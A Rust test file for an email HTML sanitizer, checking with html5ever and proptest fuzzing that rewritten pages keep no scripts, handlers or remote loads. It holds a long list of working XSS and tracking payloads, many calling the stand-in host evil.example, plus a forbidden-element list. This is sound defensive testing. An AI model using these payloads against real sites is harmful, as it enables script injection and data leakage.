//! The rewritten page as an independent parser, html5ever, sees it.

use std::cell::RefCell;
use std::collections::BTreeSet;

use html5ever::driver::ParseOpts;
use html5ever::tendril::TendrilSink;
use html5ever::tree_builder::TreeBuilderOpts;
use markup5ever_rcdom::{Handle, NodeData, RcDom};
use proptest::prelude::*;

use super::css::{self, Rules};
use super::*;
use crate::mail;

/// The host that the hostile messages here want to be asked.
const EVIL: &str = "evil.example";

/// What a page never has: what runs, what sends, what changes the meaning of other URLs, what embeds other pages.
const FORBIDDEN: [&str; 27] = [
    "applet", "base", "bgsound", "button", "dialog", "embed", "form", "frame", "frameset", "iframe", "image", "input",
    "keygen", "math", "noscript", "object", "option", "param", "portal", "script", "select", "svg", "template",
    "textarea", "title", "track", "use",
];

/// Attributes that make a browser load, but for `href`, which does so on some elements.
const LOADING: [&str; 12] = [
    "background",
    "code",
    "codebase",
    "data",
    "dynsrc",
    "imagesrcset",
    "lowsrc",
    "manifest",
    "poster",
    "profile",
    "src",
    "srcset",
];

fn parts() -> Parts {
    parts_below("/emails/user/1")
}

/// Three parts of a message at this URL, two of them with one content id.
fn parts_below(message_url: &str) -> Parts {
    let part = |id: &str| format!("--b\r\nContent-Type: image/png\r\nContent-ID: <{id}>\r\n\r\nx\r\n");
    let parts = [part("logo@x"), part("Photo 1@x"), part("logo@x")].concat();
    let raw = format!("MIME-Version: 1.0\r\nContent-Type: multipart/related; boundary=b\r\n\r\n{parts}--b--\r\n");
    let content = mail::parse(raw.as_bytes());
    assert_eq!(content.attachments.len(), 3);
    Parts::new(&content.attachments, message_url)
}

fn page(html: &str, remote: bool) -> String {
    String::from_utf8(view(html, &parts(), remote).unwrap()).unwrap()
}

/// The page without what is written before the message.
fn body(html: &str) -> String {
    let page = page(html, false);
    page.split_once("\"off\">\n").unwrap().1.to_owned()
}

fn inlined(html: &str) -> String {
    String::from_utf8(inline(html, &parts()).unwrap()).unwrap()
}

/// What is wrong with `html` as a browser sees it, with scripts or without.
fn breaches(html: &str) -> BTreeSet<String> {
    let mut found = BTreeSet::new();
    for scripting_enabled in [false, true] {
        let tree_builder = TreeBuilderOpts { scripting_enabled, ..TreeBuilderOpts::default() };
        let options = ParseOpts { tree_builder, ..ParseOpts::default() };
        let dom = html5ever::parse_document(RcDom::default(), options).one(html);
        let mut open = vec![dom.document.clone()];
        while let Some(node) = open.pop() {
            of_node(&node, &mut found);
            open.extend(node.children.borrow().iter().cloned());
            if let NodeData::Element { template_contents, .. } = &node.data {
                open.extend(template_contents.borrow().iter().cloned());
            }
        }
    }
    found
}

fn of_node(node: &Handle, found: &mut BTreeSet<String>) {
    let NodeData::Element { name, attrs, .. } = &node.data else { return };
    let element = &*name.local;
    if FORBIDDEN.contains(&element) || element.contains("script") {
        found.insert(format!("<{element}>"));
    }
    for attribute in attrs.borrow().iter() {
        let (name, value) = (&*attribute.name.local, &*attribute.value);
        let plain: String = value.chars().filter(|c| *c > ' ').collect::<String>().to_ascii_lowercase();
        let is_link = matches!(element, "a" | "area");
        let loads = LOADING.contains(&name) || (name == "href" && !is_link);
        let runs = ["javascript:", "vbscript:", "data:text", "data:application/x"].iter().any(|s| plain.starts_with(s));
        if name.starts_with("on") || ["action", "formaction", "autofocus", "srcdoc", "ping", "is"].contains(&name) {
            found.insert(format!("<{element} {name}>"));
        }
        if runs || (loads && plain.contains(EVIL)) || (element == "meta" && name == "http-equiv" && plain == "refresh")
        {
            found.insert(format!("<{element} {name}={value:?}>"));
        }
        if name == "style" {
            found.extend(loads_of(value));
        }
    }
    if element == "style" {
        let text = node.children.borrow().iter().map(text_of).collect::<String>();
        found.extend(loads_of(&text));
    }
}

fn text_of(node: &Handle) -> String {
    match &node.data {
        NodeData::Text { contents } => contents.borrow().to_string(),
        _ => String::new(),
    }
}

/// What `css` loads from the hostile host.
fn loads_of(css: &str) -> Vec<String> {
    let found = RefCell::new(Vec::new());
    let note = |url: &str| {
        if url.contains(EVIL) || url.contains("javascript:") {
            found.borrow_mut().push(format!("css {url}"));
        }
        None
    };
    css::rewrite(css, &Rules { url: &note, clean: false, max_bytes: usize::MAX }).unwrap();
    found.into_inner()
}

/// Each of these runs, sends, loads or leads astray in a browser that shows it as it is.
const VECTORS: &[&str] = &[
    "<script>alert(1)</script>",
    "<SCRIPT SRC=//evil.example/x></SCRIPT>",
    "<script/x>alert(1)</script >",
    "<scr\0ipt>alert(1)</scr\0ipt><script>alert(1)</script>",
    "<script>alert(1)",
    "<img src=x onerror=alert(1)>",
    "<img/src=\"x\"/onerror=alert(1)>",
    "<img src=x OnErRoR\n=\n'alert(1)'>",
    "<img src=\"x\"onerror=\"alert(1)\">",
    "<img src='x'title=\"'\"onload=alert(1)>",
    "<body onload=alert(1)>",
    "<p onmouseover=alert(1)>",
    "<details open ontoggle=alert(1)>",
    "<video><source onerror=alert(1)></video>",
    "<audio src=x onerror=alert(1)>",
    "<svg onload=alert(1)>",
    "<svg><script>alert(1)</script></svg>",
    "<svg><script href=//evil.example/x />",
    "<svg><a xlink:href=javascript:alert(1)><text>x</text></a></svg>",
    "<svg><image xlink:href=//evil.example/x></svg>",
    "<svg><image href=//evil.example/x></svg>",
    "<svg><use href=//evil.example/x#a></svg>",
    "<svg><style><img src=x onerror=alert(1)></style></svg>",
    "<svg><animate onbegin=alert(1) attributeName=x dur=1s>",
    "<svg></p><style><a id=\"</style><img src=x onerror=alert(1)>\">",
    "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)></style>",
    "<math><mi xlink:href=javascript:alert(1)>x</mi></math>",
    "<math href=javascript:alert(1)>x</math>",
    "<noscript><p title=\"</noscript><img src=x onerror=alert(1)>\"></noscript>",
    "<noscript><img src=//evil.example/x></noscript>",
    "<select><style></select><img src=x onerror=alert(1)></style>",
    "<template><img src=//evil.example/x></template>",
    "<a href=javascript:alert(1)>x</a>",
    "<a href=JaVaScRiPt:alert(1)>x</a>",
    "<a href='java&Tab;script:alert(1)'>x</a>",
    "<a href='java&NewLine;script&colon;alert(1)'>x</a>",
    "<a href='&#106;&#x61;vascript&#58;alert(1)'>x</a>",
    "<a href='&#0000106avascript:alert(1)'>x</a>",
    "<a href=' \u{1}\u{1f} javascript:alert(1)'>x</a>",
    "<a href='java\nscript:alert(1)'>x</a>",
    "<a href='java\tscript:alert(1)'>x</a>",
    "<a href='vbscript:msgbox(1)'>x</a>",
    "<a href='data:text/html,<script>alert(1)</script>'>x</a>",
    "<a href='data:text/html;base64,PHNjcmlwdD4='>x</a>",
    "<map><area href=javascript:alert(1)></map>",
    "<form action=//evil.example/x><input name=a></form>",
    "<form><button formaction=javascript:alert(1)>x</button></form>",
    "<input autofocus onfocus=alert(1)>",
    "<input type=image src=//evil.example/x>",
    "<isindex type=image src=//evil.example/x onerror=alert(1)>",
    "<textarea autofocus onfocus=alert(1)>x</textarea>",
    "<select autofocus onfocus=alert(1)><option>x</select>",
    "<base href=//evil.example/>",
    "<meta http-equiv=refresh content='0;url=//evil.example/'>",
    "<META HTTP-EQUIV=\" Refresh\" CONTENT='0;url=javascript:alert(1)'><iframe></iframe>",
    "<iframe src=//evil.example/x></iframe>",
    "<iframe srcdoc='<script>alert(1)</script>'></iframe>",
    "<frameset><frame src=//evil.example/x></frameset>",
    "<object data=//evil.example/x></object>",
    "<object><param name=movie value=//evil.example/x></object>",
    "<embed src=//evil.example/x>",
    "<applet code=//evil.example/x></applet>",
    "<portal src=//evil.example/x></portal>",
    "<link rel=stylesheet href=//evil.example/x>",
    "<link rel=\"prefetch stylesheet\" href=//evil.example/x>",
    "<link rel=preload as=image href=//evil.example/x>",
    "<link rel=dns-prefetch href=//evil.example>",
    "<link rel=icon href=//evil.example/x>",
    "<link rel=preload as=image imagesrcset='//evil.example/x 1x' href=y>",
    "<img src=http://evil.example/x>",
    "<img src=//evil.example/x>",
    "<img src='\\\\evil.example/x'>",
    "<img src='/\\evil.example/x'>",
    "<img src='ht\ntp://evil.example/x'>",
    "<img src='&#104;ttp&#58;//evil.example/x'>",
    "<img src=' \u{3}http:evil.example/x'>",
    "<image src=//evil.example/x>",
    "<img srcset='//evil.example/x 1x, //evil.example/y 2x'>",
    "<img src=a srcset=',,//evil.example/x,'>",
    "<picture><source srcset=//evil.example/x><img></picture>",
    "<video src=//evil.example/x></video>",
    "<video poster=//evil.example/x></video>",
    "<video><source src=//evil.example/x></video>",
    "<video><track src=//evil.example/x default></video>",
    "<audio src=//evil.example/x></audio>",
    "<bgsound src=//evil.example/x>",
    "<body background=//evil.example/x>",
    "<table background=//evil.example/x><tr><td background=//evil.example/y>",
    "<p style=\"background:url(//evil.example/x)\">",
    "<p style='background:url(&quot;http://evil.example/x&quot;)'>",
    "<p style='background:u\\72l(//evil.example/x)'>",
    "<p style='background:u\\000072 l(//evil.example/x)'>",
    "<p style='background:image-set(\"//evil.example/x\" 1x)'>",
    "<p style='background:url(java\\script:x);list-style:url(//evil.example/x'>",
    "<p style='--a:url(//evil.example/x);background:var(--a)'>",
    "<p style='/**/background/**/:url(/**//evil.example/x)'>",
    "<style>@import url(//evil.example/x);</style>",
    "<style>@import '//evil.example/x';</style>",
    "<style>@im\\port \"http://evil.example/x\"</style>",
    "<style>@font-face{font-family:a;src:url(//evil.example/x)}</style>",
    "<style>p{background:url( '//evil.example/x' )}</style>",
    "<style><!-- p{background:url(//evil.example/x)} --></style>",
    "<style>p{content:url(//evil.example/x)}",
    "<style>@media screen{@supports (a:b){p{cursor:url(//evil.example/x),auto}}}</style>",
    "<style></style/><img src=x onerror=alert(1)>",
    "<xmp></xmp><img src=x onerror=alert(1)>",
    "<title><a title='</title><img src=x onerror=alert(1)>'></title>",
    "<!--><img src=x onerror=alert(1)>-->",
    "<!--a--!><img src=x onerror=alert(1)>",
    "<!doctype><img src=x onerror=alert(1)>",
    "<?xml ><img src=x onerror=alert(1)>?>",
    "</ ><img src=x onerror=alert(1)>",
    "<![CDATA[><img src=x onerror=alert(1)>]]>",
    "<svg><![CDATA[</svg>]]></svg><img src=x onerror=alert(1)>",
    "<p a=<img src=x onerror=alert(1)>",
    "<p a='\"'><img src=x onerror='alert(1)'>",
    "<dialog open onclose=alert(1)>",
    "<marquee onstart=alert(1)>x</marquee>",
    "<x onclick=alert(1)>x</x>",
    "<a ping=//evil.example/x href=#a>x</a>",
    "<button is=x onclick=alert(1)>",
    "<html manifest=//evil.example/x>",
    "<head profile=//evil.example/x>",
];

#[test]
fn no_vector_is_left() {
    assert!(VECTORS.len() >= 60);
    for vector in VECTORS {
        assert!(!breaches(vector).is_empty(), "no vector: {vector:?}");
        for around in
            ["X", "<p>X</p>", "<svg>X", "<select>X", "<table>X", "<math><mtext>X", "<noscript>X", "<p a='X", "<!--X"]
        {
            let page = page(&around.replace('X', vector), false);
            assert_eq!(breaches(&page), BTreeSet::new(), "{around} {vector:?}: {page}");
        }
    }
}

/// What is asked for by `remote` are images, media and style sheets, never more.
#[test]
fn with_remote_loads_nothing_runs_either() {
    for vector in VECTORS {
        let page = page(vector, true);
        let left: Vec<_> = breaches(&page).into_iter().filter(|breach| !breach.contains(EVIL)).collect();
        assert!(left.is_empty(), "{vector:?}: {left:?} in {page}");
    }
    let page = page(
        "<iframe src=//evil.example></iframe><object data=//evil.example></object><base href=//evil.example>",
        true,
    );
    assert!(!page.contains(EVIL), "{page}");
}

#[test]
fn parts_are_shown_from_their_urls() {
    for (sent, written) in [
        ("<img src=cid:logo@x>", "<img src=\"/emails/user/1/attachments/0\">"),
        ("<IMG SRC='CID:Photo%201@X' ALT=a>", "<img src=\"/emails/user/1/attachments/1\" alt=\"a\">"),
        ("<td background=cid:logo@x>", "<td background=\"/emails/user/1/attachments/0\">"),
        ("<video poster=cid:logo@x>", "<video poster=\"/emails/user/1/attachments/0\">"),
        ("<img srcset='cid:logo@x 2x, //e/ 3x'>", "<img srcset=\"/emails/user/1/attachments/0 2x\">"),
        (
            "<p style=\"background: url('cid:logo@x')\">",
            "<p style=\"background: url(&quot;/emails/user/1/attachments/0&quot;)\">",
        ),
        (
            "<style>p{background:url(cid:logo@x)}</style>",
            "<style>p{background:url(\"/emails/user/1/attachments/0\")}</style>",
        ),
        (
            "<a href=cid:logo@x>",
            "<a href=\"/emails/user/1/attachments/0\" target=\"_blank\" rel=\"noopener noreferrer nofollow\">",
        ),
        ("<img src=cid:other@x alt=b>", "<img alt=\"b\">"),
    ] {
        assert_eq!(body(sent), written);
    }
}

#[test]
fn what_is_not_loaded_is_marked() {
    for (sent, written) in [
        ("<img src=https://e/a?b&amp;c width=3>", "<img data-blocked-src=\"https://e/a?b&amp;c\" width=\"3\">"),
        ("<img srcset='//e/a 1x'>", "<img data-blocked-srcset=\"//e/a 1x\">"),
        ("<td background=//e/a>", "<td data-blocked-background=\"//e/a\">"),
        ("<video poster=//e/a>", "<video data-blocked-poster=\"//e/a\">"),
        ("<link rel=stylesheet href=//e/a>", "<link data-blocked-href=\"//e/a\" rel=\"stylesheet\">"),
        (
            "<p style='color:red;background:url(//e/a) 0 0'>",
            "<p style=\"color:red;background:url(&quot;data:,blocked&quot;) 0 0\">",
        ),
        ("<img src=javascript:x data-blocked-src=y>", "<img>"),
    ] {
        assert_eq!(body(sent), written);
    }
    let asked = page("<img src=https://e/a><link rel=stylesheet href=//e/b><style>@import '//e/c'</style>", true);
    for kept in ["<img src=\"https://e/a\">", "<link href=\"//e/b\" rel=\"stylesheet\">", "@import \"//e/c\""] {
        assert!(asked.contains(kept), "{kept} in {asked}");
    }
}

#[test]
fn what_says_something_stays() {
    for (sent, written) in [
        ("a &lt; b & c < d &copy;", "a &lt; b & c &lt; d &copy;"),
        (
            "<p ALIGN=center class=a id=b style='color:red'>x<br/>y</P>",
            "<p align=\"center\" class=\"a\" id=\"b\" style=\"color:red\">x<br>y</P>",
        ),
        ("<form action=x>Name: <input> <button>Go</button></form>", "Name:  Go"),
        ("<object data=x>instead</object><o:p>&nbsp;</o:p>", "instead&nbsp;"),
        ("<!--[if mso]><p>old</p><![endif]--><![if !mso]>new<![endif]>", "new"),
        ("<title>t</title><script>s</script><noscript>n</noscript>x", "x"),
        ("<svg><title>t</title><text>v</text></svg>x<svg/>y<math>-<mi>z</math>", "xyz"),
        ("<svg><path><text>v<p>x</p>y", "<p>x</p>y"),
        (
            "<a href='https://e/?a=1&amp;b=2'>x</a>",
            "<a href=\"https://e/?a=1&amp;b=2\" target=\"_blank\" rel=\"noopener noreferrer nofollow\">x</a>",
        ),
        ("<a href=#top target=_top>x</a><a name=top>", "<a href=\"#top\">x</a><a name=\"top\">"),
        ("<a href=relative>x</a>", "<a>x</a>"),
        ("<xmp><b>&amp;</xmp>", "&lt;b>&amp;amp;"),
        ("<p title='\"<>&amp;'>", "<p title=\"&quot;&lt;&gt;&amp;\">"),
        ("<p class=a class=b>", "<p class=\"a\">"),
    ] {
        assert_eq!(body(sent), written);
    }
}

/// A browser shows none of it either, as long as nothing follows.
#[test]
fn what_is_not_finished_is_left_out() {
    for unfinished in [
        "<img src='//evil.example/",
        "<img src=x",
        "<p",
        "</p",
        "</",
        "<!-- x",
        "<!doctype",
        "<?x",
        "<![CDATA[",
        "<p a='>",
    ] {
        let shown = body(&format!("<p>a</p>b{unfinished}"));
        assert!(["<p>a</p>b", "<p>a</p>b&lt;/"].contains(&shown.as_str()), "{unfinished}: {shown}");
        assert_eq!(inlined(unfinished), unfinished);
    }
    assert_eq!(body("a <"), "a &lt;");
    assert_eq!(body("<style>a{b:url(//e)"), "<style>a{b:url(\"data:,blocked\")");
    assert_eq!(body("<style>a{b:url(//e)}</sty"), "<style>a{b:url(\"data:,blocked\")}\\3c /sty");
    assert_eq!(body("<textarea>a</text"), "a&lt;/text");
}

#[test]
fn a_page_keeps_its_document_type_in_front() {
    let xhtml = "<!DOCTYPE html PUBLIC \"-//W3C//DTD XHTML 1.0 Transitional//EN\" \"http://www.w3.org/TR/xhtml1/DTD/xhtml1-transitional.dtd\">";
    let starts =
        |html: &str, with: &str| assert!(page(html, false).starts_with(&format!("{with}<meta charset")), "{html}");
    starts(&format!("\r\n<?xml version='1.0'?> <!-- x -->\n{xhtml}<html>"), xhtml);
    starts("<!doctype HTML>", "<!DOCTYPE html>");
    starts("<!doctype html public \"><script>\">", "<!DOCTYPE html PUBLIC \"\">");
    starts("<!doctype svg><p>", "");
    starts("<p><!doctype html>", "");
    starts("x<!doctype html>", "");
    starts("", "");
}

#[test]
fn inlining_changes_references_alone() {
    let sent = "<!doctype html><!-- c --><P OnClick=x CLASS=a>&lt;<script>cid:logo@x</script><img src=//e/a >\
                <a href=\"javascript:x\">y</a><style>/* c */p{a:url(//e) url(b c)}</style><svg><style>a{b:url(cid:logo@x)}";
    assert_eq!(inlined(sent), sent);
    let url = "/emails/user/1/attachments/0";
    for (sent, written) in [
        ("<IMG SRC=cid:logo@x onload=y>", format!("<IMG SRC=\"{url}\" onload=y>")),
        ("<x y='c&#105;d:logo@x' z>", format!("<x y=\"{url}\" z>")),
        ("<p style=\"a:url('cid:logo@x');b:url(//e)\">", format!("<p style=\"a:url(&quot;{url}&quot;);b:url(//e)\">")),
        ("<img srcset='cid:logo@x 1x, //e/a 2x'>", format!("<img srcset=\"{url} 1x, //e/a 2x\">")),
        ("<style>a{b:url(cid:logo@x)}</style>", format!("<style>a{{b:url(\"{url}\")}}</style>")),
        ("<img src=cid:other@x>", "<img src=cid:other@x>".to_owned()),
    ] {
        assert_eq!(inlined(sent), written);
    }
}

/// Nothing here may take more than time and memory in proportion; a test that hangs has failed.
#[test]
fn hostile_nesting_and_size_end() {
    let adoption = "<a><b><i><p>".repeat(3500);
    assert!(page(&adoption, false).len() < 3 * adoption.len());
    let stray = "<b>".repeat(20_000) + &"</i>".repeat(500_000);
    assert!(page(&stray, false).len() < 2 * stray.len());
    for html in [
        "<svg>".repeat(30_000),
        "<table><tr><td>".repeat(10_000),
        "<style>".to_owned() + &"a{".repeat(500_000),
        "<p style='".to_owned() + &"(".repeat(500_000) + "'>",
        "<!--".repeat(500_000),
        "<p ".repeat(100_000),
        "<p".to_owned() + &" a=b".repeat(100_000) + ">",
        "&".repeat(500_000),
        "<".repeat(500_000),
        "<a href='".to_owned() + &"&Tab;".repeat(200_000) + "'>",
        "<p title='".to_owned() + &"&".repeat(500_000) + "'>",
        "<p title='".to_owned() + &"&#".repeat(250_000) + "'>",
        "<p title='&#".to_owned() + &"1".repeat(500_000) + "'>",
        "<p title='&".to_owned() + &"a".repeat(500_000) + "'>",
        "<style>".to_owned() + &"url(".repeat(100_000),
        "<style>".to_owned() + &"/*\"".repeat(100_000),
        "<p ".to_owned() + &(0..100_000).map(|n| format!("a{n}=cid:logo@x ")).collect::<String>() + ">",
        "<img srcset='".to_owned() + &"a,".repeat(500_000) + "'>",
    ] {
        let (length, name) = (html.len(), html[..20].to_owned());
        for made in [view(&html, &parts(), true), inline(&html, &parts())] {
            assert!(made.unwrap().len() < 6 * length + 1000, "{name}");
        }
    }
}

#[test]
fn what_would_take_too_much_is_refused() {
    let far = parts_below(&"/".repeat(10_000));
    for html in [
        "x".repeat(BODY_MAX_BYTES + 1),
        "<b>".repeat(200_000),
        "<p".to_owned() + &" a".repeat(400_000) + ">",
        "<img src=cid:logo@x>".repeat(3500),
        "<p style='".to_owned() + &"a:url(cid:logo@x);".repeat(3500) + "'>",
        "<style>".to_owned() + &"url(cid:logo@x)".repeat(3500),
    ] {
        let name = html[..20].to_owned();
        assert_eq!(view(&html, &far, false), Err(TooMuch), "{name}");
        assert_eq!(inline(&html, &far), Err(TooMuch), "{name}");
    }
}

/// Pieces of which hostile messages are made.
const PIECES: &[&str] = &[
    "<script>",
    "</script>",
    "<style>",
    "</style>",
    "<svg>",
    "</svg>",
    "<math>",
    "<mtext>",
    "<noscript>",
    "</noscript>",
    "<template>",
    "<title>",
    "</title>",
    "<textarea>",
    "</textarea>",
    "<xmp>",
    "</xmp>",
    "<iframe>",
    "</iframe>",
    "<select>",
    "</select>",
    "<table>",
    "<tr>",
    "<p>",
    "</p>",
    "<a>",
    "</a>",
    "<desc>",
    "<foreignObject>",
    "<plaintext>",
    "<noframes>",
    "<frameset>",
    "<form>",
    "<img src=//evil.example/x onerror=alert(1)>",
    "<a href=javascript:alert(1)>",
    "<p style='background:url(//evil.example/)'>",
    "@import '//evil.example/';",
    "p{background:url(//evil.example/)}",
    "<!--",
    "-->",
    "--!>",
    "<![CDATA[",
    "]]>",
    "<!",
    "<?",
    "</",
    "<",
    ">",
    "\"",
    "'",
    "=",
    "/",
    " ",
    "\n",
    "\0",
    "&lt;",
    "&#x3c;",
    "&colon;",
    " onload=alert(1) ",
    " style=",
    " src=",
    " href=",
    "url(",
    "//evil.example",
    ")",
    "\\",
    "\\3c ",
    "/*",
    "*/",
    "{",
    "}",
    ";",
    "<font color=x>",
    "<annotation-xml encoding=text/html>",
    "<link rel=stylesheet href=",
    "<meta http-equiv=refresh content=",
    "<base href=",
    "<svg/>",
    "<style/>",
    "<br/>",
    "javascript:",
    "data:text/html,",
];

fn piece() -> impl Strategy<Value = String> {
    let known = prop::sample::select(PIECES).prop_map(str::to_owned);
    prop_oneof![4 => known, 1 => any::<char>().prop_map(String::from)]
}

proptest! {
    #![proptest_config(ProptestConfig::with_cases(500))]

    #[test]
    fn no_message_gets_anything_through(pieces in prop::collection::vec(piece(), 0..40)) {
        let html = pieces.concat();
        let page = page(&html, false);
        prop_assert_eq!(breaches(&page), BTreeSet::new(), "{}", page);
        prop_assert!(page.len() < 10 * html.len() + 1000);
    }

    #[test]
    fn any_text_is_rewritten(html in "\\PC*", remote in any::<bool>()) {
        let page = page(&html, remote);
        prop_assert!(page.len() < 6 * html.len() + 1000);
        prop_assert_eq!(inlined(&html), html);
    }
}
